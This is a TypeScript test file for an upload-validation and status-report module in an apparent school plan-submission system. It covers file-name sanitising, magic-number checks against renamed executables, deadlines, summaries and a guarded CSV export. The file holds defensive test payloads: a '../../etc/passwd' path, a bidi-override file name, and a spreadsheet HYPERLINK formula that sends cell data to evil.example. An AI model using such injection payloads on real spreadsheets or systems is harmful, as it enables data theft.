import { describe, expect, it } from 'vitest';
import {
  acceptedKey,
  allowedExt,
  checkFile,
  inAudience,
  incomingKey,
  isLate,
  type OrgStatus,
  REJECT_MESSAGES,
  sanitiseFileName,
  statusCsv,
  summarise,
} from '../../functions/plans/rules.js';
import { formatBeijing } from '../../functions/shared/clock.js';
import { Campaign } from '../../schemas/campaigns.js';
import { Org } from '../../schemas/orgs.js';
import { MAX_UPLOAD_BYTES } from '../../schemas/plans.js';
import { cfbFile, elfExecutable, minimalDocx, minimalPdf, minimalXlsx, peExecutable, plainZip } from '../fixtures/files.js';
import { allOrgs, campaign, campaignInput, orgs, upload, uploadId } from './samples.js';

/** True if the string holds a lone UTF-16 surrogate (a character cut in half). */
const hasLoneSurrogate = (s: string) => /[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/.test(s);

describe('keys', () => {
  it('puts incoming and accepted objects under campaign/org/document/uploadId.ext', () => {
    const u = upload({ ext: 'docx' });
    expect(incomingKey(u)).toBe('incoming/2019-plans/dh-school-1/service-plan/0123456789abcdef0123456789abcdef.docx');
    expect(acceptedKey(u)).toBe('accepted/2019-plans/dh-school-1/service-plan/0123456789abcdef0123456789abcdef.docx');
  });
});

describe('allowedExt', () => {
  it.each([
    ['方案.pdf', 'pdf'],
    ['PLAN.PDF', 'pdf'],
    ['Plan.Docx', 'docx'],
    ['old.DOC', 'doc'],
    ['a.exe.pdf', 'pdf'],
    ['  spaced.pdf  ', 'pdf'],
  ])('%j → %s', (name, ext) => {
    expect(allowedExt(name)).toBe(ext);
  });

  it.each([['plan'], ['pdf'], ['plan.'], ['a.pdf.exe'], ['plan.txt'], ['plan.pdfx'], ['plan.docm'], ['']])('%j is not allowed', (name) => {
    expect(allowedExt(name)).toBeUndefined();
  });
});

describe('sanitiseFileName', () => {
  it('keeps only the last path segment (Windows and POSIX separators)', () => {
    expect(sanitiseFileName('C:\\fakepath\\东湖区方案.pdf')).toBe('东湖区方案.pdf');
    expect(sanitiseFileName('../../etc/passwd')).toBe('passwd');
    expect(sanitiseFileName('dir/sub\\x.docx')).toBe('x.docx');
  });

  it('removes control characters, bidi overrides, zero-width characters and characters Windows forbids', () => {
    expect(sanitiseFileName('a\u0000b\u0007c\u001f\u007f.pdf')).toBe('abc.pdf');
    // "invoice‮fdp.exe" would display as "invoiceexe.pdf"
    expect(sanitiseFileName('invoice\u202efdp.exe')).toBe('invoicefdp.exe');
    expect(sanitiseFileName('\u2066x\u2069\u200by\u200f\u202a.docx')).toBe('xy.docx');
    expect(sanitiseFileName('<b>"方案"|?*:.pdf')).toBe('b方案.pdf');
    expect(sanitiseFileName('line\r\nbreak.pdf')).toBe('linebreak.pdf');
  });

  it('falls back to "file" when nothing is left', () => {
    expect(sanitiseFileName('')).toBe('file');
    expect(sanitiseFileName('   ')).toBe('file');
    expect(sanitiseFileName('folder/')).toBe('file');
    expect(sanitiseFileName('\u202e\u0000')).toBe('file');
  });

  it('keeps Chinese names untouched', () => {
    const name = '南昌市东湖区第一小学心理危机管理工作方案（2019年修订）.docx';
    expect(sanitiseFileName(name)).toBe(name);
  });

  it('cuts long names to 120 characters and keeps the extension', () => {
    const out = sanitiseFileName(`${'a'.repeat(200)}.docx`);
    expect(out).toBe(`${'a'.repeat(115)}.docx`);
    expect(out).toHaveLength(120);
    const cjk = sanitiseFileName(`${'心理健康'.repeat(40)}.pdf`);
    expect(cjk).toBe(`${'心理健康'.repeat(40).slice(0, 116)}.pdf`);
    expect(cjk).toHaveLength(120);
    expect(sanitiseFileName(`${'b'.repeat(120)}`)).toBe('b'.repeat(120));
  });

  it('never cuts a character in half when shortening a long name', () => {
    // 1 + 2×100 UTF-16 units: the 116-unit cut falls inside an emoji.
    const out = sanitiseFileName(`a${'😀'.repeat(100)}.pdf`);
    expect(out.endsWith('.pdf')).toBe(true);
    expect(hasLoneSurrogate(out)).toBe(false);
  });
});

describe('checkFile (real bytes, magic numbers)', () => {
  it('accepts a minimal valid PDF as pdf', async () => {
    expect(await checkFile(minimalPdf(), 'pdf')).toBeUndefined();
  });

  it('the sample files are what they claim to be (file-type, the magic-number library, agrees)', async () => {
    const { fileTypeFromBuffer } = await import('file-type');
    expect((await fileTypeFromBuffer(minimalPdf()))?.ext).toBe('pdf');
    expect(await fileTypeFromBuffer(minimalDocx())).toEqual({
      ext: 'docx',
      mime: 'application/vnd.openxmlformats-officedocument.wordprocessingml.document',
    });
    expect((await fileTypeFromBuffer(minimalXlsx()))?.ext).toBe('xlsx');
    expect((await fileTypeFromBuffer(plainZip()))?.ext).toBe('zip');
    expect((await fileTypeFromBuffer(cfbFile()))?.ext).toBe('cfb');
    expect((await fileTypeFromBuffer(elfExecutable()))?.ext).toBe('elf');
    expect((await fileTypeFromBuffer(peExecutable()))?.ext).toBe('exe');
  });

  it('accepts a real DOCX as docx', async () => {
    expect(await checkFile(minimalDocx(), 'docx')).toBeUndefined();
  });

  it('does not let a plain zip or an Excel .xlsx pass as docx', async () => {
    expect(await checkFile(plainZip(), 'docx')).toBe('TYPE_MISMATCH');
    expect(await checkFile(minimalXlsx(), 'docx')).toBe('TYPE_MISMATCH');
  });

  it('accepts an OLE2/CFB Word container as doc, and not as docx or pdf', async () => {
    expect(await checkFile(cfbFile(), 'doc')).toBeUndefined();
    expect(await checkFile(cfbFile(), 'docx')).toBe('TYPE_MISMATCH');
    expect(await checkFile(cfbFile(), 'pdf')).toBe('TYPE_MISMATCH');
  });

  it('does not let another OLE2 file (an .xls workbook) pass as doc', async () => {
    expect(await checkFile(cfbFile('Workbook'), 'doc')).toBe('TYPE_MISMATCH');
  });

  it('rejects a truncated zip (local header only) as docx', async () => {
    expect(await checkFile(minimalDocx().slice(0, 200), 'docx')).toBe('TYPE_MISMATCH');
  });

  it.each([
    ['ELF', elfExecutable],
    ['PE (MZ)', peExecutable],
  ])('rejects a %s executable renamed .pdf/.doc/.docx as TYPE_MISMATCH', async (_n, bytes) => {
    expect(await checkFile(bytes(), 'pdf')).toBe('TYPE_MISMATCH');
    expect(await checkFile(bytes(), 'doc')).toBe('TYPE_MISMATCH');
    expect(await checkFile(bytes(), 'docx')).toBe('TYPE_MISMATCH');
  });

  it('rejects a real file of another allowed type (the declared type must match)', async () => {
    expect(await checkFile(minimalPdf(), 'docx')).toBe('TYPE_MISMATCH');
    expect(await checkFile(minimalDocx(), 'pdf')).toBe('TYPE_MISMATCH');
    expect(await checkFile(minimalDocx(), 'doc')).toBe('TYPE_MISMATCH');
  });

  it('rejects plain text and unknown bytes', async () => {
    expect(await checkFile(new TextEncoder().encode('这是一个文本文件，不是 PDF。'), 'pdf')).toBe('TYPE_MISMATCH');
  });

  it('says EMPTY for zero bytes', async () => {
    expect(await checkFile(new Uint8Array(0), 'pdf')).toBe('EMPTY');
  });

  it('accepts exactly 20 MiB and says TOO_LARGE for one byte more', async () => {
    const pdf = minimalPdf();
    const max = new Uint8Array(MAX_UPLOAD_BYTES);
    max.set(pdf);
    expect(await checkFile(max, 'pdf')).toBeUndefined();
    const over = new Uint8Array(MAX_UPLOAD_BYTES + 1);
    over.set(pdf);
    expect(await checkFile(over, 'pdf')).toBe('TOO_LARGE');
  });

  it('has a Chinese message for every reason', () => {
    expect(Object.keys(REJECT_MESSAGES).sort()).toEqual(['EMPTY', 'MISSING', 'TOO_LARGE', 'TYPE_MISMATCH']);
    for (const m of Object.values(REJECT_MESSAGES)) expect(m).toMatch(/[\u4e00-\u9fff]/);
    expect(REJECT_MESSAGES.TOO_LARGE).toContain('20 MB');
  });
});

describe('isLate', () => {
  const deadline = '2019-06-30T23:59:59.999+08:00';
  it('is on time at the exact deadline instant and late 1 ms later', () => {
    expect(isLate('2019-06-30T23:59:59.999+08:00', deadline)).toBe(false);
    expect(isLate('2019-06-30T15:59:59.999Z', deadline)).toBe(false);
    expect(isLate('2019-06-30T16:00:00.000Z', deadline)).toBe(true);
    expect(isLate('2019-07-01T00:00:00.000+08:00', deadline)).toBe(true);
  });
  it('compares against the campaign deadline as stored (UTC)', () => {
    expect(campaign.deadline).toBe('2019-06-30T15:59:59.999Z');
    expect(isLate('2019-06-30T15:59:59.999Z', campaign.deadline)).toBe(false);
    expect(isLate('2019-06-30T16:00:00.000Z', campaign.deadline)).toBe(true);
    expect(isLate('2019-06-01T00:00:00.000Z', campaign.deadline)).toBe(false);
  });
});

describe('inAudience', () => {
  it('audience "all" is every District office and school, not the Bureau or the Centre', () => {
    expect(inAudience(campaign, orgs.dh)).toBe(true);
    expect(inAudience(campaign, orgs.dhSchool1)).toBe(true);
    expect(inAudience(campaign, orgs.direct1)).toBe(true);
    expect(inAudience(campaign, orgs.bureau)).toBe(false);
    expect(inAudience(campaign, orgs.centre)).toBe(false);
  });
  it('a listed audience is exactly the listed orgs', () => {
    const c = Campaign.parse({ ...campaignInput, audience: { orgIds: ['dh-school-2', 'direct-1'] } });
    expect(allOrgs.filter((o) => inAudience(c, o)).map((o) => o.id)).toEqual(['dh-school-2', 'direct-1']);
  });
});

describe('summarise', () => {
  const now = new Date('2019-07-02T00:00:00.000Z');
  const minutesBefore = (m: number) => new Date(now.getTime() - m * 60_000).toISOString();
  const acc = (n: number, orgId: string, routeKey: string, document: string, receivedAt: string, late: boolean, originalName: string, size: number) =>
    upload({
      uploadId: uploadId(n),
      orgId,
      routeKey,
      document,
      requestedAt: new Date(Date.parse(receivedAt) - 5000).toISOString(),
      state: 'accepted',
      receivedAt,
      late,
      originalName,
      size,
      sha256: 'ab'.repeat(32),
      acceptedKey: `accepted/2019-plans/${orgId}/${document}/${uploadId(n)}.pdf`,
    });
  const rej = (n: number, orgId: string, routeKey: string, document: string, receivedAt: string, reason: 'TYPE_MISMATCH' | 'EMPTY', originalName: string) =>
    upload({ uploadId: uploadId(n), orgId, routeKey, document, requestedAt: receivedAt, state: 'rejected', receivedAt, reason, originalName });
  const pend = (n: number, orgId: string, routeKey: string, document: string, requestedAt: string) =>
    upload({ uploadId: uploadId(n), orgId, routeKey, document, requestedAt, state: 'pending' });

  const uploads = [
    // dh-school-1: two versions of the service plan, the second after the deadline;
    // the crisis plan rejected once, then accepted (the old rejection is not shown).
    acc(2, 'dh-school-1', 'D#dh', 'service-plan', '2019-06-30T16:10:03.000Z', true, 'v2.pdf', 2000),
    acc(1, 'dh-school-1', 'D#dh', 'service-plan', '2019-06-10T02:00:05.000Z', false, 'v1.pdf', 1000),
    rej(3, 'dh-school-1', 'D#dh', 'crisis-plan', '2019-06-11T00:00:00.000Z', 'TYPE_MISMATCH', 'virus.pdf'),
    acc(4, 'dh-school-1', 'D#dh', 'crisis-plan', '2019-06-12T00:00:00.000Z', false, 'crisis.docx', 3000),
    // dh-school-2: accepted, then a newer rejected upload (shown); the crisis plan still being checked.
    acc(5, 'dh-school-2', 'D#dh', 'service-plan', '2019-06-20T00:00:00.000Z', false, 'a.pdf', 10),
    rej(6, 'dh-school-2', 'D#dh', 'service-plan', '2019-06-21T00:00:00.000Z', 'EMPTY', 'b.pdf'),
    pend(7, 'dh-school-2', 'D#dh', 'crisis-plan', minutesBefore(14)),
    // dh (District office): only stale pending attempts (15 and 16 minutes old).
    pend(8, 'dh', 'D#dh', 'service-plan', minutesBefore(16)),
    pend(9, 'dh', 'D#dh', 'service-plan', minutesBefore(15)),
    // xh-school-1 complete and on time.
    acc(10, 'xh-school-1', 'D#xh', 'service-plan', '2019-06-15T00:00:00.000Z', false, 'x1.pdf', 11),
    acc(11, 'xh-school-1', 'D#xh', 'crisis-plan', '2019-06-15T00:00:00.000Z', false, 'x2.pdf', 12),
    // direct-1 complete, crisis plan late.
    acc(12, 'direct-1', 'DIRECT', 'service-plan', '2019-06-29T00:00:00.000Z', false, 'd1.pdf', 13),
    acc(13, 'direct-1', 'DIRECT', 'crisis-plan', '2019-07-01T00:00:00.000Z', true, 'd2.pdf', 14),
    // the Bureau is not in the audience: its stray attempt makes no row.
    acc(14, 'bureau', 'CITY', 'service-plan', '2019-06-15T00:00:00.000Z', false, 'b.pdf', 15),
  ];
  const result = () => summarise(campaign, allOrgs, uploads, now);

  it('orders rows and totals by District, Direct schools last, the District office first within its group', () => {
    const r = result();
    expect(r.rows.map((row) => [row.group, row.orgId, row.kind])).toEqual([
      ['D#dh', 'dh', 'district'],
      ['D#dh', 'dh-school-1', 'school'],
      ['D#dh', 'dh-school-2', 'school'],
      ['D#xh', 'xh', 'district'],
      ['D#xh', 'xh-school-1', 'school'],
      ['DIRECT', 'direct-1', 'school'],
    ]);
    expect(r.totals.map((t) => t.group)).toEqual(['D#dh', 'D#xh', 'DIRECT']);
  });

  it('groups each District office with its own schools', () => {
    const byGroup = (g: string) => result().rows.filter((row) => row.group === g).map((row) => row.orgId).sort();
    expect(byGroup('D#dh')).toEqual(['dh', 'dh-school-1', 'dh-school-2']);
    expect(byGroup('D#xh')).toEqual(['xh', 'xh-school-1']);
    expect(byGroup('DIRECT')).toEqual(['direct-1']);
    expect(byGroup('CITY')).toEqual([]);
  });

  it('counts versions, shows the last upload and its late flag, hides a rejection older than the accepted version', () => {
    const row = result().rows.find((r) => r.orgId === 'dh-school-1');
    expect(row).toEqual({
      orgId: 'dh-school-1',
      name: '东湖区第一小学',
      kind: 'school',
      group: 'D#dh',
      complete: true,
      documents: [
        {
          document: 'service-plan',
          title: '心理服务体系建设工作实施方案',
          state: 'uploaded',
          versions: 2,
          lastUploadAt: '2019-06-30T16:10:03.000Z',
          late: true,
          lastFileName: 'v2.pdf',
          lastSize: 2000,
          rejected: undefined,
          pending: false,
          pendingIds: [],
        },
        {
          document: 'crisis-plan',
          title: '心理危机管理工作方案',
          state: 'uploaded',
          versions: 1,
          lastUploadAt: '2019-06-12T00:00:00.000Z',
          late: false,
          lastFileName: 'crisis.docx',
          lastSize: 3000,
          rejected: undefined,
          pending: false,
          pendingIds: [],
        },
      ],
    });
  });

  it('shows a rejection newer than the accepted version, and a fresh pending attempt', () => {
    const row = result().rows.find((r) => r.orgId === 'dh-school-2');
    expect(row?.complete).toBe(false);
    expect(row?.documents).toEqual([
      {
        document: 'service-plan',
        title: '心理服务体系建设工作实施方案',
        state: 'uploaded',
        versions: 1,
        lastUploadAt: '2019-06-20T00:00:00.000Z',
        late: false,
        lastFileName: 'a.pdf',
        lastSize: 10,
        rejected: { reason: 'EMPTY', message: REJECT_MESSAGES.EMPTY, fileName: 'b.pdf', at: '2019-06-21T00:00:00.000Z' },
        pending: false,
        pendingIds: [],
      },
      {
        document: 'crisis-plan',
        title: '心理危机管理工作方案',
        state: 'missing',
        versions: 0,
        lastUploadAt: undefined,
        late: false,
        lastFileName: undefined,
        lastSize: undefined,
        rejected: undefined,
        pending: true,
        pendingIds: [expect.any(String)],
      },
    ]);
  });

  it('treats a pending attempt as stale from 15 minutes on', () => {
    const row = result().rows.find((r) => r.orgId === 'dh');
    expect(row?.documents.map((d) => [d.document, d.state, d.pending])).toEqual([
      ['service-plan', 'missing', false],
      ['crisis-plan', 'missing', false],
    ]);
    const fresh = summarise(campaign, [orgs.dh], [pend(20, 'dh', 'D#dh', 'service-plan', new Date(now.getTime() - 15 * 60_000 + 1).toISOString())], now);
    expect(fresh.rows[0]?.documents[0]?.pending).toBe(true);
  });

  it('an abandoned attempt older than the last finished one is not pending (lost POST, then a successful retry)', () => {
    const t = (minAgo: number) => new Date(now.getTime() - minAgo * 60_000).toISOString();
    const abandoned = pend(30, 'dh', 'D#dh', 'service-plan', t(3));
    const retried = { ...pend(31, 'dh', 'D#dh', 'service-plan', t(2)), state: 'accepted' as const, receivedAt: t(1), size: 10, sha256: 'x', late: false, acceptedKey: 'k' };
    const doc = summarise(campaign, [orgs.dh], [abandoned, retried], now).rows[0]?.documents[0];
    expect(doc).toMatchObject({ state: 'uploaded', versions: 1, pending: false, pendingIds: [] });
    const inFlight = pend(32, 'dh', 'D#dh', 'service-plan', t(0.5));
    const again = summarise(campaign, [orgs.dh], [abandoned, retried, inFlight], now).rows[0]?.documents[0];
    expect(again).toMatchObject({ pending: true, pendingIds: [inFlight.uploadId] });
  });

  it('shows a rejection when nothing was ever accepted', () => {
    const r = summarise(campaign, [orgs.xh], [rej(21, 'xh', 'D#xh', 'crisis-plan', '2019-06-01T00:00:00.000Z', 'TYPE_MISMATCH', 'setup.pdf')], now);
    expect(r.rows[0]?.documents[1]).toMatchObject({
      state: 'missing',
      versions: 0,
      rejected: { reason: 'TYPE_MISMATCH', message: REJECT_MESSAGES.TYPE_MISMATCH, fileName: 'setup.pdf', at: '2019-06-01T00:00:00.000Z' },
    });
  });

  it('totals per District (office grouped with its schools) and for Direct schools', () => {
    const byGroup = (a: { group: string }, b: { group: string }) => (a.group < b.group ? -1 : 1);
    expect([...result().totals].sort(byGroup)).toEqual([
      { group: 'D#dh', name: '东湖区教科体局', orgs: 3, complete: 1, late: 1, byDocument: { 'service-plan': 2, 'crisis-plan': 1 } },
      { group: 'D#xh', name: '西湖区教科体局', orgs: 2, complete: 1, late: 0, byDocument: { 'service-plan': 1, 'crisis-plan': 1 } },
      { group: 'DIRECT', name: '直属学校（局属、省属事业单位办、市管民办）', orgs: 1, complete: 1, late: 1, byDocument: { 'service-plan': 1, 'crisis-plan': 1 } },
    ]);
  });

  it('leaves every org missing when nothing was uploaded', () => {
    const r = summarise(campaign, allOrgs, [], now);
    expect(r.rows).toHaveLength(6);
    expect(r.rows.every((row) => !row.complete && row.documents.every((d) => d.state === 'missing' && d.versions === 0))).toBe(true);
    expect(r.totals.map((t) => [t.group, t.orgs, t.complete, t.late]).sort()).toEqual([
      ['D#dh', 3, 0, 0],
      ['D#xh', 2, 0, 0],
      ['DIRECT', 1, 0, 0],
    ]);
  });
});

describe('statusCsv', () => {
  const doc = (over: Partial<OrgStatus['documents'][number]> = {}): OrgStatus['documents'][number] => ({
    document: 'service-plan',
    title: '心理服务体系建设工作实施方案',
    state: 'missing',
    versions: 0,
    late: false,
    pending: false,
    pendingIds: [],
    ...over,
  });
  const row = (orgId: string, name: string, group: string, docs = [doc(), doc({ document: 'crisis-plan', title: '心理危机管理工作方案' })]): OrgStatus => ({
    orgId,
    name,
    kind: 'school',
    group,
    documents: docs,
    complete: false,
  });
  const groupName = (g: string) => ({ dh: '东湖区教科体局', direct: '直属学校' })[g] ?? g;
  const fmt = (iso: string) => formatBeijing(iso);

  it('is UTF-8 with a BOM, CRLF line ends, a header per document and one line per row', () => {
    const rows = [
      row('dh-school-1', '东湖区第一小学', 'dh', [
        doc({ state: 'uploaded', versions: 2, lastUploadAt: '2019-06-30T16:10:03.000Z', late: true }),
        doc({ document: 'crisis-plan', title: '心理危机管理工作方案', state: 'uploaded', versions: 1, lastUploadAt: '2019-06-12T00:00:00.000Z' }),
      ]),
      row('direct-1', '南昌市第一中学', 'direct'),
    ];
    const csv = statusCsv(campaign, rows, groupName, fmt);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(csv).not.toMatch(/[^\r]\n/);
    expect(csv.slice(1).split('\r\n')).toEqual([
      '所属,机构编号,机构名称,类型,' +
        '心理服务体系建设工作实施方案-状态,心理服务体系建设工作实施方案-版本数,心理服务体系建设工作实施方案-最后上传(北京时间),心理服务体系建设工作实施方案-是否逾期,' +
        '心理危机管理工作方案-状态,心理危机管理工作方案-版本数,心理危机管理工作方案-最后上传(北京时间),心理危机管理工作方案-是否逾期',
      '东湖区教科体局,dh-school-1,东湖区第一小学,学校,已上传,2,2019年7月1日 00:10,逾期,已上传,1,2019年6月12日 08:00,',
      '直属学校,direct-1,南昌市第一中学,学校,未上传,0,,,未上传,0,,',
      '',
    ]);
  });

  it('guards against formula injection (=, +, -, @, tab) and quotes commas, quotes and line breaks', () => {
    const rows = [
      row('a1', '=HYPERLINK("http://evil.example/?x="&A1,"点我")', 'dh'),
      row('a2', '+86 1', 'dh'),
      row('a3', '-2+3', 'dh'),
      row('a4', '@SUM(A1:A2)', 'dh'),
      row('a5', '\t=1', 'dh'),
      row('a6', '西湖区"实验",学校', 'dh'),
      row('a7', '第一行\n第二行', 'dh'),
      row('a8', '普通 学校', 'dh'),
    ];
    const lines = statusCsv(campaign, rows, groupName, fmt).slice(1).split('\r\n');
    const nameCell = (i: number) => lines[i + 1]?.split(',').slice(2).join(',').replace(/,学校,未上传,0,,,未上传,0,,$/, '');
    expect(nameCell(0)).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我"")"`);
    expect(nameCell(1)).toBe(`'+86 1`);
    expect(nameCell(2)).toBe(`'-2+3`);
    expect(nameCell(3)).toBe(`'@SUM(A1:A2)`);
    expect(nameCell(4)).toBe(`'\t=1`);
    expect(nameCell(5)).toBe(`"西湖区""实验"",学校"`);
    // the line break stays inside one quoted cell: the record continues on the next physical line
    expect(statusCsv(campaign, [rows[6] as OrgStatus], groupName, fmt)).toContain(`,"第一行\n第二行",学校,`);
    expect(nameCell(7)).toBe('普通 学校');
  });

  it('a summarised org whose name starts with "=" comes out guarded', () => {
    const evil = Org.parse({ ...orgs.dhSchool2, name: '=1+1' });
    const s = summarise(campaign, [orgs.dh, evil], [], new Date('2019-06-01T00:00:00Z'));
    const csv = statusCsv(campaign, s.rows, (g) => s.totals.find((t) => t.group === g)?.name ?? g, fmt);
    expect(csv.split('\r\n')[2]).toBe(`东湖区教科体局,dh-school-2,'=1+1,学校,未上传,0,,,未上传,0,,`);
  });
});
